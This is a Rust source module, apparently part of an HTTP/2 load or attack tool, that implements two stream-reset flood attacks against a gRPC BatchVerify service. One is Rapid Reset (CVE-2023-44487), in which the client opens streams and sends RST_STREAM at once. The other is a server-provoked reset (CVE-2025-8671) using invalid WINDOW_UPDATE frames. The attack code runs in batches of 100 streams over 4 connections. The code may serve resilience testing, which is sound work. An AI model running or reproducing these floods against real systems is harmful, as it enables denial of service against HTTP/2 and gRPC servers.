//! Streams that are reset as soon as they are opened, by the client (CVE-2023-44487) or, provoked, by the server
//! (CVE-2025-8671).

use crate::attack::Attack;
use crate::frames::{self, frame};
use crate::grpc;
use crate::raw::flood_all;

const CONNECTIONS: usize = 4;
/// Streams in one write.
const BATCH: u32 = 100;

pub(super) const RAPID: Attack = Attack::new(
    "rapid-reset",
    "4 connections that open BatchVerify calls and reset them at once (CVE-2023-44487)",
    |stage| {
        Box::pin(async move {
            let token = stage.verifier.clone();
            flood_all(&stage, CONNECTIONS, &[], |number| rapid(number, &token)).await
        })
    },
);

pub(super) const BY_THE_SERVER: Attack = Attack::new(
    "made-you-reset",
    "4 connections whose invalid WINDOW_UPDATEs make the server reset calls (CVE-2025-8671)",
    |stage| {
        Box::pin(async move {
            let token = stage.verifier.clone();
            flood_all(&stage, CONNECTIONS, &[], |number| {
                each_stream(number, &token, |id| frame(frames::WINDOW_UPDATE, 0, id, &[0; 4]))
            })
            .await
        })
    },
);

/// One batch of calls that are reset by the client.
pub(super) fn rapid(number: u32, token: &str) -> Vec<u8> {
    // CANCEL
    each_stream(number, token, |id| frame(frames::RST_STREAM, 0, id, &[0, 0, 0, 8]))
}

fn each_stream(number: u32, token: &str, reset: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let call = frames::call(&grpc::path("BatchVerify"), Some(token));
    let ids = (0..BATCH).map(|place| (number.wrapping_mul(BATCH) + place).wrapping_mul(2) + 1);
    ids.flat_map(|id| [frame(frames::HEADERS, frames::END_HEADERS, id, &call), reset(id)].concat()).collect()
}
